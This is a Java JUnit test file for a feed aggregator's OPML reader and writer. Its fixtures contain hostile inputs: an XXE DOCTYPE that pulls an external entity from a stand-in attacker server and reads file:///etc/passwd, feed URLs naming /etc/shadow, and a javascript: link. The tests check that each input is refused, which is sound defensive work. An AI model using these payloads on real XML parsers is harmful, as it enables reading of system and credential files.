package org.lateral.aggregate;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lateral.LateralException;
import org.lateral.Problem;
import org.lateral.aggregate.fetch.LoopbackServer;

class OpmlTest {

    @TempDir
    Path dir;

    private final LoopbackServer attacker = new LoopbackServer()
            .route("/", LoopbackServer.respond(200, "text/plain", "x"));

    @AfterEach
    void stop() {
        attacker.close();
    }

    @Test
    void readsAFeedReaderExportWithFoldersAsTopics() throws IOException {
        Path opml = Files.writeString(dir.resolve("members.opml"), """
                <?xml version="1.0" encoding="UTF-8"?>
                <opml version="2.0">
                  <head><title>Maths &amp; oracy network</title></head>
                  <body>
                    <outline text="Maths">
                      <outline type="rss" text="Ann Teacher" xmlUrl="https://ann.example/feed.xml" htmlUrl="https://ann.example/"/>
                      <outline type="rss" text="Bob&#9;&#x202E;Leader" xmlUrl="https://bob.example/feed" category="oracy,coaching"/>
                    </outline>
                    <outline type="rss" text="Ann Teacher" xmlUrl="https://ann2.example/feed.xml" htmlUrl="javascript:alert(1)"/>
                    <outline type="rss" text="Broken" xmlUrl="ftp://nope.example/feed"/>
                  </body>
                </opml>
                """);

        OpmlReader.Opml read = OpmlReader.read(opml);

        assertThat(read.title()).isEqualTo("Maths & oracy network");
        assertThat(read.subscriptions()).extracting(Subscription::id).containsExactly("ann-teacher", "bob-leader",
                "ann-teacher-2");
        Subscription ann = read.subscriptions().get(0);
        assertThat(ann.site()).contains(URI.create("https://ann.example/"));
        assertThat(ann.topics()).containsExactly("Maths");
        Subscription bob = read.subscriptions().get(1);
        assertThat(bob.name()).isEqualTo("Bob Leader");
        assertThat(bob.feed()).isEqualTo(new FeedLocation.Remote(URI.create("https://bob.example/feed")));
        assertThat(bob.topics()).containsExactly("Maths", "oracy", "coaching");
        assertThat(read.subscriptions().get(2).site()).isEmpty();
        assertThat(read.problems()).singleElement().satisfies(p -> {
            assertThat(p.severity()).isEqualTo(Problem.Severity.WARNING);
            assertThat(p.line()).isEqualTo(10);
            assertThat(p.message()).contains("ftp:");
        });
    }

    @Test
    void anOpmlListNeverNamesAFileOnTheHubsMachine() throws IOException {
        Path opml = Files.writeString(dir.resolve("members.opml"), """
                <opml version="2.0"><body>
                <outline type="rss" text="Shadow" xmlUrl="/etc/shadow"/>
                <outline type="rss" text="Shadow URL" xmlUrl="file:///etc/shadow"/>
                <outline type="rss" text="Relative" xmlUrl="feeds/bob.xml"/>
                <outline type="rss" text="Ann" xmlUrl="https://ann.example/feed.xml"/>
                </body></opml>
                """);

        OpmlReader.Opml read = OpmlReader.read(opml);

        assertThat(read.subscriptions()).extracting(Subscription::name).containsExactly("Ann");
        assertThat(read.problems()).hasSize(3).allSatisfy(p -> {
            assertThat(p.severity()).isEqualTo(Problem.Severity.WARNING);
            assertThat(p.message()).contains("an OPML list may only name feeds on the web");
            assertThat(p.hint()).contains("https://");
        });
        assertThat(read.problems()).extracting(Problem::line).containsExactly(2, 3, 4);
    }

    @Test
    void malformedOpmlIsAnErrorWithItsLine() throws IOException {
        Path opml = Files.writeString(dir.resolve("bad.opml"), "<opml>\n<body>\n<outline text='x'>\n</body></opml>\n");

        assertThatThrownBy(() -> OpmlReader.read(opml)).isInstanceOfSatisfying(LateralException.class, e -> {
            Problem problem = e.problems().get(0);
            assertThat(problem.file()).isEqualTo(opml);
            assertThat(problem.line()).isEqualTo(4);
            assertThat(problem.message()).startsWith("the OPML file is not well-formed XML");
        });
    }

    @Test
    void opmlWithADoctypeIsRefusedAndFetchesNothing() throws IOException {
        Path opml = Files.writeString(dir.resolve("xxe.opml"), "<?xml version=\"1.0\"?>\n<!DOCTYPE opml [\n"
                + "<!ENTITY % p SYSTEM \"" + attacker.uri("/dtd") + "\"> %p;\n<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n"
                + "<opml><body><outline text=\"&x;\" xmlUrl=\"https://a.example/f\"/></body></opml>");

        assertThatThrownBy(() -> OpmlReader.read(opml)).isInstanceOf(LateralException.class)
                .hasMessageContaining("DOCTYPE");
        assertThat(attacker.requests()).isEmpty();
    }

    @Test
    void writesABlogrollOfWebFeedsThatReadsBack() throws IOException {
        List<Subscription> members = List.of(
                Subscription.of("Ann & \"Co\" <Teachers>", new FeedLocation.Remote(URI.create("https://ann.example/feed.xml")))
                        .withSite(URI.create("https://ann.example/")).withTopics(List.of("maths", "oracy")),
                Subscription.of("Local only", new FeedLocation.Local(dir.resolve("x.xml"))));

        String opml = OpmlWriter.write("Network <blogroll>", members, Instant.parse("2025-03-01T07:00:00Z"));

        Document doc = Jsoup.parse(opml, "", Parser.xmlParser());
        assertThat(doc.select("head > title").text()).isEqualTo("Network <blogroll>");
        assertThat(doc.select("outline")).singleElement().satisfies(o -> {
            assertThat(o.attr("text")).isEqualTo("Ann & \"Co\" <Teachers>");
            assertThat(o.attr("xmlUrl")).isEqualTo("https://ann.example/feed.xml");
            assertThat(o.attr("htmlUrl")).isEqualTo("https://ann.example/");
            assertThat(o.attr("category")).isEqualTo("maths,oracy");
        });
        Path file = Files.writeString(dir.resolve("roll.opml"), opml);
        assertThat(OpmlReader.read(file).subscriptions()).extracting(Subscription::name)
                .containsExactly("Ann & \"Co\" <Teachers>");
    }
}
